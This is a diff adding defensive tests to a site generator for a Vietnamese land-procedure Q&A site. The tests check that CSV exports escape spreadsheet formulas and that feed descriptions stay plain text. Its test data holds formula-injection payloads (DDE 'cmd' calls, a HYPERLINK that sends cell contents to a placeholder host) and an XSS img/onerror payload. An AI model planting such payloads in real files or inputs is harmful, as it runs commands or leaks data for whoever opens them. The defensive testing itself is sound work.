@@ -104,3 +104,52 @@ def test_no_payload_becomes_live_markup(make_project):
             assert not (tag.name == "img" and tag.get("src") == "x"), (page, tag)
         shown += html.count("XSS")
     assert shown > 0  # the payloads are there, as text
+
+
+FORMULAS = ['=HYPERLINK("http://x/?"&A1,"Bấm")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip
+
+
+def test_open_data_cells_never_start_a_formula(make_project):
+    items = {}
+    for index, formula in enumerate(FORMULAS):
+        text = QUESTION.replace("Tôi cần giấy tờ gì?", json.dumps(formula)).replace(
+            "topic: Đất đai", f"topic: {json.dumps(formula)}"
+        )
+        items[f"content/hoi-dap/2025-cau-{index}.yaml"] = text.replace(
+            "title: Hỏi về thủ tục đất đai", f"title: {json.dumps(formula)}"
+        )
+    project = make_project(items)
+    assert build(project, as_of=dt.date(2025, 12, 1)).published
+    import csv
+    import io
+
+    checked = 0
+    for path in (project.site_dir / "du-lieu").glob("*.csv"):
+        for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")):
+            for cell in row:
+                if cell.lstrip("'") in FORMULAS or cell.lstrip("'").startswith(("=", "+", "@")):
+                    assert cell.startswith("'"), (path.name, cell)
+                    checked += 1
+    assert checked >= len(FORMULAS) * 2  # titles and topics, at least
+
+
+def test_rss_descriptions_are_plain_text(make_project):
+    payload = '<img src=x onerror=alert("XSS")> & <b>đậm</b>'
+    text = QUESTION.replace("Tôi cần giấy tờ gì?", json.dumps(payload)) + (
+        f"summary: {json.dumps(payload)}\n"
+    )
+    project = make_project({"content/hoi-dap/2025-a.yaml": text})
+    assert build(project, as_of=dt.date(2025, 12, 1)).published
+    import xml.etree.ElementTree as ET
+
+    rss = ET.parse(project.site_dir / "feeds/rss.xml").getroot()
+    [description] = [item.findtext("description") for item in rss.iter("item")]
+    # A reader renders <description> as HTML: what it shows is the text the clerk typed.
+    shown = BeautifulSoup(description, "html.parser")
+    assert shown.find("img") is None and shown.find("b") is None
+    assert payload in shown.get_text()
+    atom = ET.parse(project.site_dir / "feeds/atom.xml").getroot()
+    ns = {"a": "http://www.w3.org/2005/Atom"}
+    [summary] = [e.findtext("a:summary", namespaces=ns) for e in atom.iterfind("a:entry", ns)]
+    assert payload in summary
